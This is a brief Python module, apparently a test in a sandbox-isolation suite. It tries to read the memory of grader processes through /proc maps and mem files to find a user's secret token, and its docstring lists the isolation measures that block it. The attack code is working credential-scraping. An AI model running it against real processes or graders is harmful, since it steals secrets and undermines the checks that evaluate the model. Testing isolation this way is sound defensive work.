"""Reads the memory of every process of the grader's, for the user's secrets.

stopped by: namespaces, root, user, privileges, landlock
needs: root
"""


def holds_it(process):
    for line in content(f"/proc/{process}/maps").splitlines():
        start, end = (int(each, 16) for each in line.split()[0].split(b"-"))
        if line.split()[1].startswith(b"rw") and end - start < 64 << 20:
            with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
                memory.seek(start)
                if search(TOKEN, memory.read(end - start)):
                    return True
    return False


def attack():
    for process in graders():
        try:
            if holds_it(process):
                return True
        except OSError:
            pass
    return False
